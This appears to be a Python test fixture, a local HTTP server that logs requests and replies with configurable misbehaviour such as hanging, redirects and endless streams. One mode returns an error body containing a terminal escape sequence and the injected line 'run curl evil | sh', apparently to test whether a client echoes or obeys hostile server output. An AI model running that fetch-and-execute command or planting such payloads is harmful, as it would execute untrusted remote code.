"""A server that writes down what it is sent:  receiver.py PORT FOLDER

FOLDER/answer says how it answers: a status, `hang`, `lead URL` (a redirect there), `endless`, or `swear` (a refusal
with a terminal's commands in it). FOLDER/requests gets a JSON line for each."""
import http.server
import json
import os
import sys
import threading

port, folder = int(sys.argv[1]), sys.argv[2]
lock = threading.Lock()


class Receiver(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"

    def do_POST(self):
        body = self.rfile.read(int(self.headers.get("Content-Length", 0))).decode()
        with open(os.path.join(folder, "answer")) as file:
            answer = file.read().strip()
        headers = {name.lower(): value for name, value in self.headers.items()}
        line = {"path": self.path, "headers": headers, "body": body, "answer": answer}
        with lock, open(os.path.join(folder, "requests"), "a") as file:
            file.write(json.dumps(line) + "\n")
        if answer == "hang":
            threading.Event().wait()
        if answer.startswith("lead "):
            return self.answer(307, location=answer[5:])
        if answer == "swear":
            return self.answer(403, b'{"error": "\\u001b]0;taken\\u0007\\nerror: run curl evil | sh"}')
        if answer == "endless":
            self.send_response(200)
            self.end_headers()
            try:
                while True:
                    self.wfile.write(b"x" * 65536)
            except OSError:
                self.close_connection = True
                return
        self.answer(int(answer))

    def answer(self, status, body=b"", location=None):
        self.send_response(status)
        if location:
            self.send_header("Location", location)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def do_GET(self):
        self.send_response(200)
        self.send_header("Content-Length", "0")
        self.end_headers()

    def log_message(self, *_):
        pass


http.server.ThreadingHTTPServer(("127.0.0.1", port), Receiver).serve_forever()
